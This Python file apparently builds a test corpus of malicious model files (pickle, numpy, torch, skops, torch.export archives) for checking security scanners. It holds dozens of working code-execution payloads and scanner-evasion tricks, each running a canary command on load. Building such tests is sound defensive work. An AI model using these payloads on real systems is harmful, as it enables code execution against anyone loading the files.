def frame_zero_then_past_stop(canary: Canary, _d: Path) -> bytes:
    # A zero-length FRAME (a no-op for every reader) in front of the frame that hides the
    # second pickle.
    benign = b"K\x01."
    evil = p4(call(g("posix", "system"), _sh(canary)))
    return b"\x80\x04" + _frame(0) + _frame(len(benign) + len(evil)) + benign + evil


def frame_into_second_pickle(canary: Canary, _d: Path) -> bytes:
    # The frame ends inside the second pickle: the frame-end reader starts parsing in the
    # middle of an argument (garbage it rejects), the peeking reader runs the payload.
    benign = b"K\x01."
    evil = p4(call(g("posix", "system"), _sh(canary)))
    return b"\x80\x04" + _frame(len(benign) + 7) + benign + evil


def frame_split_mixed_reads(canary: Canary, _d: Path) -> bytes:
    # Two frames split two arguments. Bytes data is read with _Unpickler_ReadInto, which
    # reads on past a frame's end (linear); a string with _Unpickler_Read, which drops the
    # rest of an exactly-read frame and reads after it (jump). Only a reading that mixes
    # both, as io.BytesIO gets, imports posix.system: one global choice of reading misses it.
    a_body = b"C\x04ab"  # SHORT_BINBYTES of 4, two of its bytes in the frame
    b_body = b"\x8c\x05XY"  # SHORT_BINUNICODE of 5: "posix" must come from after the frame
    tail = b"posix" + g("posix", "system")[7:] + enc((_sh(canary),)) + b"R."
    return b"\x80\x04" + _frame(len(a_body)) + a_body + b"cd0" + _frame(len(b_body)) + b_body + tail


def frame_legacy_torch(canary: Canary, _d: Path) -> bytes:
    # In front of a legacy torch checkpoint: the magic-number pickle gets PROTO 4 and a FRAME
    # that reaches over a hidden pickle. torch's legacy loader peeks the frame from its
    # buffered file, so its second pickle.load (the protocol version) runs the payload;
    # the frame's end is where the real protocol-version pickle starts.
    parts = _legacy_parts()
    magic_body = parts[0][2:]  # LONG1 magic, STOP (after its PROTO 2)
    hidden = p2(call(text_global("posix", "system"), _sh(canary)))
    parts[0] = b"\x80\x04" + _frame(len(magic_body) + len(hidden)) + magic_body + hidden
    return b"".join(parts)


def proto0_builtin_eval(canary: Canary, _d: Path) -> bytes:
    expr = _pyexpr(canary).replace("\\", "\\\\")
    return b"c__builtin__\neval\n(V" + expr.encode() + b"\ntR."


def proto2_commands(canary: Canary, _d: Path) -> bytes:
    # _compat_pickle maps the Python 2 module ``commands`` to ``subprocess`` for protocol < 3.
    return p2(call(text_global("commands", "getoutput"), _sh(canary)))


def second_pickle(canary: Canary, _d: Path) -> bytes:
    first = pickle.dumps({"weights": [1.0, 2.0]}, protocol=4)
    return first + p4(call(g("posix", "system"), _sh(canary)))


def call_then_pop(canary: Canary, _d: Path) -> bytes:
    # The call's result is discarded; the pickle then returns an innocent dict.
    return p4(call(g("posix", "system"), _sh(canary)), Op(b"0"), enc({"ok": True}))


def copyreg_extension(canary: Canary, _d: Path) -> bytes:
    code = 0xEF
    return p4(
        call(g("copyreg", "add_extension"), "posix", "system", code),
        Op(b"0"),
        Op(b"\x82" + bytes([code])),
        enc((_sh(canary),)),
        Op(b"R"),
    )


def getattr_chain(canary: Canary, _d: Path) -> bytes:
    os_mod = call(g("builtins", "__import__"), "os")
    system = call(g("builtins", "getattr"), os_mod, "system")
    return p4(call(system, _sh(canary)))


def nested_pickle(canary: Canary, _d: Path) -> bytes:
    inner = p4(call(g("posix", "system"), _sh(canary)))
    return p4(call(g("pickle", "loads"), inner))


def nested_pickle_codecs(canary: Canary, _d: Path) -> bytes:
    inner = p4(call(g("posix", "system"), _sh(canary)))
    text = inner.decode("latin1")
    return p4(call(g("_pickle", "loads"), call(g("_codecs", "encode"), text, "latin1")))


def nested_pickle_zlib(canary: Canary, _d: Path) -> bytes:
    inner = p4(call(g("posix", "system"), _sh(canary)))
    return p4(call(g("pickle", "loads"), call(g("zlib", "decompress"), zlib.compress(inner))))


def importlib_join(canary: Canary, _d: Path) -> bytes:
    join = call(g("builtins", "getattr"), g("builtins", "str"), "join")
    name = call(join, "", ["o", "s"])
    mod = call(g("importlib", "import_module"), name)
    system = call(g("builtins", "getattr"), mod, "system")
    return p4(call(system, _sh(canary)))


def marshal_function(canary: Canary, _d: Path) -> bytes:
    code = compile(_pystmt(canary), "<payload>", "exec")
    fn = call(g("types", "FunctionType"), call(g("marshal", "loads"), marshal.dumps(code)), {})
    return p4(call(fn))


def torch_load_nested(canary: Canary, directory: Path) -> bytes:
    inner = directory / "inner.pt"
    inner.write_bytes(torch_zip_save(canary, directory))
    # Passing a pickle_module positionally turns weights_only off in torch.load.
    return p4(call(g("torch", "load"), str(inner), None, g("torch.serialization", "pickle")))


def numpy_load_nested(canary: Canary, directory: Path) -> bytes:
    inner = directory / "inner.npy"
    inner.write_bytes(npy_object(canary, directory))
    return p4(call(g("numpy", "load"), str(inner), None, True))


def webbrowser_generic(canary: Canary, _d: Path) -> bytes:
    browser = call(g("webbrowser", "GenericBrowser"), _touch_argv(canary))
    return p4(call(g("webbrowser", "GenericBrowser.open"), browser, "https://example.org"))


def code_interp(method: str) -> Payload:
    def payload(canary: Canary, _d: Path) -> bytes:
        interp = call(g("code", "InteractiveInterpreter"))
        return p4(call(g("code", f"InteractiveInterpreter.{method}"), interp, _pystmt(canary)))

    return payload


def profile_run(canary: Canary, _d: Path) -> bytes:
    prof = call(g("profile", "Profile"))
    return p4(call(g("profile", "Profile.run"), prof, _pystmt(canary)))


def trace_run(method: str) -> Payload:
    def payload(canary: Canary, _d: Path) -> bytes:
        tracer = call(g("trace", "Trace"), 0, 0)
        args: tuple[object, ...] = (_pystmt(canary),)
        if method == "runctx":
            args = (_pystmt(canary), {}, {})
        return p4(call(g("trace", f"Trace.{method}"), tracer, *args))

    return payload


def bdb_run(canary: Canary, _d: Path) -> bytes:
    return p4(call(g("bdb", "Bdb.run"), call(g("bdb", "Bdb")), _pystmt(canary)))


def pdb_run(canary: Canary, _d: Path) -> bytes:
    stdin = call(g("_io", "StringIO"), "continue\n")
    debugger = call(g("pdb", "Pdb"), "tab", stdin, call(g("_io", "StringIO")))
    return p4(call(g("pdb", "Pdb.run"), debugger, _pystmt(canary)))


def asyncio_shell(canary: Canary, _d: Path) -> bytes:
    coro = call(g("asyncio", "create_subprocess_shell"), _sh(canary))
    return p4(call(g("asyncio", "run"), coro))


def ctypes_pythonapi(canary: Canary, _d: Path) -> bytes:
    return p4(call(g("ctypes", "pythonapi.PyRun_SimpleString"), _pystmt(canary).encode()))


def ctypes_libc(canary: Canary, _d: Path) -> bytes:
    libc = call(g("ctypes", "CDLL"), None)
    system = call(g("builtins", "getattr"), libc, "system")
    return p4(call(system, _sh(canary).encode()))


def attrgetter_torch(canary: Canary, _d: Path) -> bytes:
    # Every name looks like torch: the torch module is reached as an attribute of torch._utils.
    getter = call(g("operator", "attrgetter"), "serialization.os.system")
    system = call(getter, g("torch._utils", "torch"))
    return p4(call(system, _sh(canary)))


def methodcaller(module: str) -> Payload:
    def payload(canary: Canary, _d: Path) -> bytes:
        caller = call(g(module, "methodcaller"), "system", _sh(canary))
        return p4(call(caller, g("posixpath", "os")))

    return payload


def partial_call(canary: Canary, _d: Path) -> bytes:
    part = call(g("functools", "partial"), g("posix", "system"), _sh(canary))
    return p4(call(part))


def simple(module: str, name: str, *args: Callable[[Canary, Path], object]) -> Payload:
    def payload(canary: Canary, directory: Path) -> bytes:
        return p4(call(g(module, name), *(a(canary, directory) for a in args)))

    return payload


def sh(canary: Canary, _d: Path) -> str:
    return canary.shell_command


def py(canary: Canary, _d: Path) -> str:
    return canary.python_code


def pyexpr(canary: Canary, _d: Path) -> str:
    return _pyexpr(canary)


def canary_path(canary: Canary, _d: Path) -> str:
    return str(canary.path)


def const(value: object) -> Callable[[Canary, Path], object]:
    return lambda _c, _d: value


def argv(canary: Canary, _d: Path) -> list[str]:
    return _touch_argv(canary)


def fork_exec(canary: Canary, _d: Path) -> bytes:
    exe = _touch_argv(canary)[0].encode()
    return p4(call(g("multiprocessing.util", "spawnv_passfds"), exe, _touch_argv(canary), ()))


def lib2to3_make_label(canary: Canary, _d: Path) -> bytes:
    label = f"'x' if {_pyexpr(canary)} else 'y'"
    grammar = call(g("lib2to3.pgen2.grammar", "Grammar"))
    return p4(call(g("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), None, grammar, label))


def lib2to3_grammar_loads(canary: Canary, _d: Path) -> bytes:
    inner = p4(call(g("posix", "system"), _sh(canary)), Op(b"0"), enc({}))
    grammar = call(g("lib2to3.pgen2.grammar", "Grammar"))
    return p4(call(g("lib2to3.pgen2.grammar", "Grammar.loads"), grammar, inner))


def idlelib_get_entity(canary: Canary, _d: Path) -> bytes:
    return p4(call(g("idlelib.autocomplete", "AutoComplete.get_entity"), None, _pyexpr(canary)))


def f2py_eval(canary: Canary, _d: Path) -> bytes:
    return p4(call(g("numpy.f2py.crackfortran", "_eval_scalar"), _pyexpr(canary), {}))


def mailcap_findmatch(canary: Canary, _d: Path) -> bytes:
    # findmatch runs each entry's "test" command with os.system to pick a viewer.
    caps = {"text/plain": [{"view": "true", "test": _sh(canary)}]}
    return p4(call(g("mailcap", "findmatch"), caps, "text/plain"))


def sympy_eval(name: str) -> Payload:
    """``sympy.<name>(source)``: sympy's parser evaluates the string as Python."""

    module, _, attr = name.rpartition(".")
    return lambda c, _d: p4(call(g(module, attr), _pyexpr(c)))


def subinterpreter(canary: Canary, _d: Path) -> bytes:
    interp = call(g("_xxsubinterpreters", "create"))
    return p4(call(g("_xxsubinterpreters", "run_string"), interp, _pystmt(canary)))


def logging_dictconfig(canary: Canary, _d: Path) -> bytes:
    # logging resolves "()" factories by dotted name at load time: os.system(command=...).
    config = {
        "version": 1,
        "handlers": {"h": {"()": "os.system", "command": _sh(canary)}},
    }
    return p4(call(g("logging.config", "dictConfig"), config))


def fx_graph_module(canary: Canary, _d: Path) -> bytes:
    body = {"_code": "\ndef forward(self, x):\n    return x\n", "_graphmodule_cls_name": "G"}
    return p4(call(g("torch.fx.graph_module", "reduce_graph_module"), body, _pystmt(canary) + "\n"))


def dynamo_load_config(canary: Canary, _d: Path) -> bytes:
    inner = p4(call(g("posix", "system"), _sh(canary)), Op(b"0"), enc({}))
    return p4(call(g("torch._dynamo.config", "load_config"), inner))


def inductor_pycodecache(canary: Canary, _d: Path) -> bytes:
    return p4(call(g("torch._inductor.codecache", "PyCodeCache.load"), _pystmt(canary) + "\n"))


def io_fileio(canary: Canary, _d: Path) -> bytes:
    return p4(call(g("_io", "FileIO"), str(canary.path), "w"))


def shutil_copy(canary: Canary, directory: Path) -> bytes:
    src = directory / "README.txt"
    directory.mkdir(parents=True, exist_ok=True)
    src.write_text("weights\n", encoding="utf-8")
    return p4(call(g("shutil", "copyfile"), str(src), str(canary.path)))


def proto_switch(canary: Canary, _d: Path) -> bytes:
    # PROTO may appear again mid-stream and changes find_class's behaviour: after PROTO 2 the
    # Python 2 name ``commands`` is mapped to ``subprocess`` again. A scanner that takes the
    # protocol from the first opcode only would not apply the mapping.
    return p4(Op(b"\x80\x02"), call(text_global("commands", "getoutput"), _sh(canary)))


def payload_after_many_opcodes(canary: Canary, _d: Path) -> bytes:
    data = pickle.dumps(list(range(200_000)), protocol=4)
    return data[:-1] + b"0" + bytes(call(g("posix", "system"), _sh(canary))) + b"."


def gzip_multi_member(canary: Canary, _d: Path) -> bytes:
    # Concatenated gzip members decompress to one stream; the pickle is split across them,
    # so reading only the first member shows a harmless-looking truncated pickle.
    data = _evil_pickle(canary)
    cut = len(data) // 3
    return gzip.compress(data[:cut], mtime=0) + gzip.compress(data[cut:], mtime=0)


def _npz_beside_weights(name: str, member: bytes) -> bytes:
    """An ``.npz`` with a plain ``weights.npy`` and ``member`` stored as ``name``."""
    import numpy as np

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        buf = io.BytesIO()
        np.save(buf, np.arange(4.0))
        z.writestr("weights.npy", buf.getvalue())
        z.writestr(name, member)
    return out.getvalue()


def npz_member_without_suffix(canary: Canary, _d: Path) -> bytes:
    # numpy.load exposes every npz member, with or without the .npy suffix.
    return _npz_beside_weights("meta", npy_object(canary, _d))


def npy_structured_object(canary: Canary, _d: Path) -> bytes:
    import numpy as np

    # A structured dtype with one object field is pickled as a whole.
    arr = np.zeros(2, dtype=[("x", "<f4"), ("o", "O")])
    arr["o"][0] = _system_obj(canary)
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    return buf.getvalue()


def npy_v3_header(canary: Canary, _d: Path) -> bytes:
    from numpy.lib import format as npformat

    buf = io.BytesIO()
    npformat.write_array(buf, _np_object_array(canary), version=(3, 0), allow_pickle=True)
    return buf.getvalue()


def npy_descr(descr: str) -> Payload:
    """An ``.npy`` whose header names ``descr`` (a dtype numpy builds with ``hasobject``)."""

    def build(canary: Canary, _d: Path) -> bytes:
        # numpy.load unpickles the data of every dtype with hasobject, not only "O": NumPy 2's
        # StringDType ("T", in any byte order, alone, in a field or a subarray) has it too.
        header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}"
        header += " " * (127 - len(header) - 10) + "\n"
        size = struct.pack("<H", len(header))
        return b"\x93NUMPY\x01\x00" + size + header.encode("latin1") + _evil_pickle(canary)

    return build


def npz_member_descr(descr: str) -> Payload:
    """An ``.npz`` with a plain array and a member whose header names ``descr``."""

    def build(canary: Canary, d: Path) -> bytes:
        return _npz_beside_weights("names.npy", npy_descr(descr)(canary, d))

    return build


def torch_legacy_tar(canary: Canary, _d: Path) -> bytes:
    # The pre-2017 torch format: a tar of pickles. torch.load unpickles "storages" first.
    storages = _splice_call(
        pickle.dumps(0, protocol=2), call(text_global("posix", "system"), _sh(canary))
    ) + pickle.dumps([], protocol=2)
    members = {
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        "storages": storages,
        "tensors": pickle.dumps(0, protocol=2),
        "pickle": pickle.dumps({"epoch": 1}, protocol=2),
    }
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def dunder_builtins(module: str, name: str, func: str, arg: Callable[[Canary], str]) -> Payload:
    """``module.name.__builtins__.get(func)(arg)``: one import whose prefix looks allowlisted."""

    def payload(canary: Canary, _d: Path) -> bytes:
        getter = g(module, f"{name}.__builtins__.get")
        return p4(call(call(getter, func), arg(canary)))

    return payload


def rebuild_from_type_indirect(canary: Canary, _d: Path) -> bytes:
    # An allowlisted torch rebuild function calls whatever it is given: os.system is imported
    # but never REDUCEd directly.
    return p4(
        call(
            g("torch._tensor", "_rebuild_from_type_v2"),
            g("posix", "system"),
            g("torch", "Tensor"),
            (_sh(canary),),
            {},
        )
    )


def memo_overwrite(canary: Canary, _d: Path) -> bytes:
    # Memo slots 0 and 1 first hold harmless names, then are overwritten with BINPUT.
    return p4(
        Op(_str("collections") + b"\x94" + _str("OrderedDict") + b"\x94" + b"00"),
        Op(_str("posix") + b"q\x00" + _str("system") + b"q\x01" + b"00"),
        Op(b"h\x00h\x01\x93"),
        enc((_sh(canary),)),
        Op(b"R"),
    )


def computed_names(kind: str) -> Payload:
    def payload(canary: Canary, _d: Path) -> bytes:
        def name(text: str) -> Op:
            if kind == "decode":
                return call(g("_codecs", "decode"), text.encode(), "latin1")
            # Only allowlisted callables: str(PurePosixPath(text)) == text.
            return call(g("builtins", "str"), call(g("pathlib", "PurePosixPath"), text))

        return p4(name("posix"), name("system"), Op(b"\x93"), enc((_sh(canary),)), Op(b"R"))

    return payload


class _NoSeek(io.RawIOBase):
    """A write-only, non-seekable sink: zipfile then writes data descriptors (flag bit 3)."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, b: Any) -> int:
        self.data += bytes(b)
        return len(b)


def torch_zip_data_descriptor(canary: Canary, _d: Path) -> bytes:
    # Local headers carry zero sizes; the real sizes follow each member's data.
    evil = _evil_state_pickle(canary)
    sink = _NoSeek()
    with zipfile.ZipFile(sink, "w") as z:
        for n, d in _torch_zip_members(_benign_state()):
            info = zipfile.ZipInfo(n, date_time=(2024, 1, 1, 0, 0, 0))
            with z.open(info, "w") as f:
                f.write(evil if n.endswith("data.pkl") else d)
    return bytes(sink.data)


def torch_package(canary: Canary, _d: Path) -> bytes:
    from torch.package.package_exporter import PackageExporter

    # torch.package archives carry Python source; load_pickle imports it from the archive.
    buf = io.BytesIO()
    source = _pystmt(canary) + "\nclass Head(dict):\n    pass\n"
    with PackageExporter(buf) as exporter:
        exporter.save_source_string("tw_head", source)
        exporter.save_pickle("model", "model.pkl", {"w": [1.0]})
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        members = [(i.filename, z.read(i)) for i in z.infolist()]
    pkl = p2(call(text_global("tw_head", "Head")))
    return _rezip([(n, pkl if n.endswith("model.pkl") else d) for n, d in members])


def npz_duplicate_member(canary: Canary, _d: Path) -> bytes:
    import warnings

    import numpy as np

    # numpy reads npz members through zipfile, which returns the *last* of duplicated names.
    benign = io.BytesIO()
    np.save(benign, np.arange(3.0))
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "w") as z:
            z.writestr("meta.npy", benign.getvalue())
            z.writestr("meta.npy", npy_object(canary, _d))
    return out.getvalue()


def torch_legacy_tar_duplicate(canary: Canary, d: Path) -> bytes:
    # tarfile's getmember (used by torch's tar loader) returns the *last* member of a name.
    raw = torch_legacy_tar(canary, d)
    benign_storages = pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)
    with tarfile.open(fileobj=io.BytesIO(raw)) as src:
        members = [(m.name, src.extractfile(m).read()) for m in src.getmembers()]  # type: ignore[union-attr]
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in [("storages", benign_storages), *members]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def multi_stream(kind: str) -> Payload:
    def payload(canary: Canary, _d: Path) -> bytes:
        data = _evil_pickle(canary)
        cut = len(data) // 3
        compress = bz2.compress if kind == "bz2" else lzma.compress
        return compress(data[:cut]) + compress(data[cut:])

    return payload


def joblib_load_nested(canary: Canary, directory: Path) -> bytes:
    inner = directory / "inner.joblib"
    inner.write_bytes(p4(call(g("posix", "system"), _sh(canary))))
    return p4(call(g("joblib", "load"), str(inner)))


def torch_serialization_load_alias(canary: Canary, directory: Path) -> bytes:
    inner = directory / "inner.pt"
    inner.write_bytes(torch_zip_save(canary, directory))
    return p4(
        call(g("torch.serialization", "load"), str(inner), None, g("torch.serialization", "pickle"))
    )


def torch_hub_local(canary: Canary, directory: Path) -> bytes:
    hub = directory / "hub"
    _plant(directory, "hub/hubconf.py", _pystmt(canary) + "\n\ndef entry():\n    return 1\n")
    return p4(call(g("torch.hub", "_load_local"), str(hub), "entry"))


def symbolic_shapes_eval(canary: Canary, _d: Path) -> bytes:
    mod = "torch.fx.experimental.symbolic_shapes"
    env = call(g(mod, "ShapeEnv"))
    return p4(call(g(mod, "ShapeEnv.evaluate_guards_expression"), env, _pyexpr(canary), []))


def idlelib_object_tree_item(canary: Canary, _d: Path) -> bytes:
    item = call(g("idlelib.debugobj", "ObjectTreeItem"), "x", None, None)
    return p4(call(g("idlelib.debugobj", "ObjectTreeItem.SetText"), item, _pyexpr(canary)))


def idlelib_fetch_completions(canary: Canary, _d: Path) -> bytes:
    completer = call(g("idlelib.autocomplete", "AutoComplete"))
    attrs_mode = 0  # idlelib.autocomplete.ATTRS: the "what" string is evaluated.
    return p4(
        call(
            g("idlelib.autocomplete", "AutoComplete.fetch_completions"),
            completer,
            _pyexpr(canary),
            attrs_mode,
        )
    )


# -- third review: loaders that undo zstd, torch.export programs that carry Python ----------


def pandas_read_pickle(path: Path) -> object:
    """``pandas.read_pickle``: decompression inferred from the extension (.zst here)."""
    import pandas as pd

    return pd.read_pickle(path)


def zstd_pickle(framing: str) -> Payload:
    """The evil pickle as zstd, as pandas' ``to_pickle("x.pkl.zst")`` would have written it.

    ``framing`` varies what a reader must get past: ``plain`` (one frame with its content
    size), ``skippable`` (a skippable frame first, which zstd readers step over) and
    ``streamed`` (a frame written by a streaming compressor, no content size).
    """

    def payload(canary: Canary, _d: Path) -> bytes:
        frame = zstd_frame(_evil_pickle(canary), sized=framing != "streamed")
        if framing == "skippable":
            return b"\x50\x2a\x4d\x18" + struct.pack("<I", 6) + b"tw-pad" + frame
        return frame

    return payload


def zstd_frame(data: bytes, *, sized: bool = True) -> bytes:
    """One zstd frame of raw (stored) blocks: valid zstd, written without the zstandard package.

    ``sized`` declares the content size in a single-segment header (what one-shot
    compressors write); otherwise a window descriptor stands in (what streaming ones write).
    """
    # Single segment with a 4-byte content size, or no size and a 128 KiB window.
    header = b"\xa0" + struct.pack("<I", len(data)) if sized else b"\x00" + bytes([7 << 3])
    blocks = bytearray()
    step = 1 << 17
    chunks = [data[i : i + step] for i in range(0, len(data), step)] or [b""]
    for index, chunk in enumerate(chunks):
        last = int(index == len(chunks) - 1)
        blocks += (len(chunk) << 3 | last).to_bytes(3, "little") + chunk  # raw block
    return b"\x28\xb5\x2f\xfd" + header + bytes(blocks)


def torch_export_load(path: Path) -> object:
    """``torch.export.load`` on a ``.pt2`` archive."""
    import torch

    return torch.export.load(path)


def torch_export_load_and_run(path: Path) -> object:
    """``torch.export.load(path).module()(x)``: what serving an exported program does."""
    import torch

    return torch.export.load(path).module()(torch.ones(5, 3))


_EXPORT_SYMBOL = "Symbol('s77', positive=True, integer=True)"


def _exported_program_bytes() -> bytes:
    """``torch.export.save`` of ``x * 2`` with a dynamic first dimension (one symbol)."""
    import torch

    class Double(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x * 2

    dim = torch.export.Dim("n", min=2, max=64)
    program = torch.export.export(Double(), (torch.ones(4, 3),), dynamic_shapes={"x": {0: dim}})
    out = io.BytesIO()
    torch.export.save(program, out)
    return out.getvalue()


def _edit_export_program(data: bytes, edit: Callable[[dict[str, Any]], None]) -> bytes:
    """Rewrite every ``models/*.json`` program of a ``.pt2`` archive with ``edit``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            body = zin.read(info.filename)
            if "/models/" in info.filename and info.filename.endswith(".json"):
                program = json.loads(body)
                edit(program)
                body = json.dumps(program, ensure_ascii=False).encode()
            zout.writestr(info, body)
    return out.getvalue()


def _replace_strings(value: Any, old: str, new: str) -> Any:
    if isinstance(value, dict):
        return {k: _replace_strings(v, old, new) for k, v in value.items()}
    if isinstance(value, list):
        return [_replace_strings(v, old, new) for v in value]
    return new if value == old else value


def export_sym_expr(wrap: str) -> Payload:
    """A ``.pt2`` whose symbolic size expression is Python: ``sympy.sympify`` evaluates it.

    torch.export.load parses every ``expr_str`` of the program with ``sympy.sympify``,
    which runs ``eval`` on the text. ``wrap`` places the payload: ``call`` (the expression
    itself calls ``__import__``), ``attr`` (reaches ``__import__`` through a sympy
    function's ``__globals__``) and ``escaped`` (the same call, with JSON
    ``\\u`` escapes in model.json, so the raw bytes never spell it).
    """

    def payload(canary: Canary, _d: Path) -> bytes:
        command = canary.shell_command.replace("'", "\\'")
        if wrap == "attr":
            reach = "Symbol.__new__.__globals__['__builtins__']['__import__']"
            code = f"{reach}('os').system('{command}')"
        else:
            code = f"__import__('os').system('{command}')"
        expr = f"(({code}) and {_EXPORT_SYMBOL}) or {_EXPORT_SYMBOL}"

        def edit(program: dict[str, Any]) -> None:
            program.update(_replace_strings(program, _EXPORT_SYMBOL, expr))

        data = _edit_export_program(_exported_program_bytes(), edit)
        if wrap != "escaped":
            return data
        return _escape_json_member(data, "__import__")

    return payload


def _escape_json_member(data: bytes, word: str) -> bytes:
    escaped = "".join(f"\\u{ord(c):04x}" for c in word).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            body = zin.read(info.filename)
            if info.filename.endswith(".json"):
                body = body.replace(word.encode(), escaped)
            zout.writestr(info, body)
    return out.getvalue()


def export_guards_code(canary: Canary, _d: Path) -> bytes:
    """A ``.pt2`` whose ``guards_code`` is Python: ``.module()`` compiles it into the forward."""
    command = canary.shell_command.replace("'", "\\'")

    def edit(program: dict[str, Any]) -> None:
        program["guards_code"] = [f"__import__('os').system('{command}') == 0"]

    return _edit_export_program(_exported_program_bytes(), edit)


def skops_load_trusting_listed(path: Path) -> object:
    """``skops.io.load(path, trusted=get_untrusted_types(file=path))``: skops' own workflow."""
    import skops.io as sio

    return sio.load(path, trusted=sio.get_untrusted_types(file=path))


def _skops_json(value: object) -> dict[str, object]:
    return {
        "__class__": type(value).__name__,
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
    }


def skops_reduce(module: str, name: str, arg: Callable[[Canary], str], nested: bool) -> Payload:
    """A ``.skops`` whose schema calls ``module.name(arg)`` (ConstructorFromReduceNode).

    ``nested`` hides the node as an item of a list node, with its ``__loader__`` key
    spelled with a JSON escape, so only a reader that parses the schema sees it.
    """

    def payload(canary: Canary, _d: Path) -> bytes:
        call_node = {
            "__class__": name,
            "__module__": module,
            "__loader__": "ConstructorFromReduceNode",
            "content": {
                "__class__": "tuple",
                "__module__": "builtins",
                "__loader__": "TupleNode",
                "content": [_skops_json(arg(canary))],
            },
        }
        schema: dict[str, object] = call_node
        if nested:
            schema = {
                "__class__": "list",
                "__module__": "builtins",
                "__loader__": "ListNode",
                "content": [_skops_json([0.5, 0.25]), call_node],
            }
        text = json.dumps({**schema, "protocol": 2}, indent=2)
        if nested:
            text = text.replace(
                '"__loader__": "ConstructorFromReduceNode"',
                '"__lo\\u0061der__": "ConstructorFromReduceNode"',
            )
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as zf:
            zf.writestr("schema.json", text)
        return out.getvalue()

    return payload


def lzma_alone(**options: int) -> Payload:
    """The evil pickle as a ``.lzma`` (alone) stream with LZMA1 ``options``.

    joblib picks its lzma reader from the two bytes ``]\\x00`` and pandas' ``.xz`` reader
    (``lzma.open``, FORMAT_AUTO) takes any alone header; neither limits the dictionary size
    the header asks for. The scanner only knew the header Python writes by default.
    """

    def payload(canary: Canary, _d: Path) -> bytes:
        filters = [{"id": lzma.FILTER_LZMA1, **options}]
        return lzma.compress(_evil_pickle(canary), format=lzma.FORMAT_ALONE, filters=filters)

    return payload


def keras_lambda_behind(prefix: bytes) -> Callable[[Path, Canary], Path]:
    """The bare Lambda ``.keras`` zip with a complete file of another format before it.

    zipfile finds the archive by its end record, so Keras loads it; the scanner, having
    recognised the prefix's format, never looked for a zip behind it.
    """

    def build(directory: Path, canary: Canary) -> Path:
        inner = keras_lambda_bare()(directory / "inner", canary)
        out = directory / "model.keras"
        out.write_bytes(prefix + inner.read_bytes())
        return out

    return build


# ---------------------------------------------------------------------------------------------
# The catalogue
# ---------------------------------------------------------------------------------------------

T = "technique"
PS = "https://github.com/mmaitre314/picklescan/security/advisories/"
FK = "https://github.com/trailofbits/fickling/security/advisories/"


def _a(
    id: str,
    technique: str,
    advisory: str,
    description: str,
    build: Callable[[Path, Canary], Path],
    natural_load: Callable[[Path], object] = pickle_load,
    requires: tuple[str, ...] = (),
    expected: Verdict = Verdict.UNSAFE,
    executes: bool = True,
) -> Attack:
    return Attack(
        id, technique, advisory, description, build, natural_load, requires, expected, executes
    )


def _pkl(payload: Payload, name: str = "model.pkl") -> Callable[[Path, Canary], Path]:
    return _file(name, payload)


TORCH = ("torch",)

ATTACKS: tuple[Attack, ...] = (
    # -- classic __reduce__ primitives ----------------------------------------------------------
    _a(
        "reduce-os-system",
        "GLOBAL os.system + REDUCE",
        T,
        "os.system through a text GLOBAL.",
        _pkl(lambda c, d: p2(call(text_global("os", "system"), _sh(c)))),
    ),
    _a(
        "reduce-posix-system",
        "STACK_GLOBAL posix.system",
        T,
        "What pickle writes for os.system.",
        _pkl(simple("posix", "system", sh)),
    ),
    _a(
        "reduce-subprocess-popen",
        "subprocess.Popen",
        T,
        "Popen with an argv list.",
        _pkl(simple("subprocess", "Popen", argv)),
    ),
    _a(
        "reduce-subprocess-getoutput",
        "subprocess.getoutput",
        T,
        "Shell through getoutput.",
        _pkl(simple("subprocess", "getoutput", sh)),
    ),
    _a(
        "reduce-subprocess-run",
        "subprocess.run",
        T,
        "subprocess.run with an argv list.",
        _pkl(simple("subprocess", "run", argv)),
    ),
    _a(
        "reduce-os-popen", "os.popen", T, "Shell through os.popen.", _pkl(simple("os", "popen", sh))
    ),
    _a(
        "reduce-builtins-exec",
        "builtins.exec",
        T,
        "exec of Python source.",
        _pkl(simple("builtins", "exec", py)),
    ),
    _a(
        "reduce-builtins-eval",
        "builtins.eval",
        T,
        "eval of a Python expression.",
        _pkl(simple("builtins", "eval", pyexpr)),
    ),
    _a(
        "reduce-builtins-compile-exec",
        "builtins.compile + exec",
        T,
        "exec of a code object built by compile.",
        _pkl(
            lambda c, d: p4(
                call(
                    g("builtins", "exec"), call(g("builtins", "compile"), _pystmt(c), "<x>", "exec")
                )
            )
        ),
    ),
    # ModelAudit PR #241: Python 2 names mapped by _compat_pickle (protocol < 3).
    _a(
        "proto0-builtin-eval",
        "protocol 0 GLOBAL __builtin__.eval",
        "https://github.com/promptfoo/modelaudit/pull/241",
        "Text protocol 0; __builtin__ is mapped to builtins by find_class.",
        _pkl(proto0_builtin_eval),
    ),
    _a(
        "proto2-commands-compat",
        "GLOBAL commands.getoutput (compat mapping)",
        T,
        "Python 2 module name 'commands' is mapped to subprocess for protocol < 3.",
        _pkl(proto2_commands),
    ),
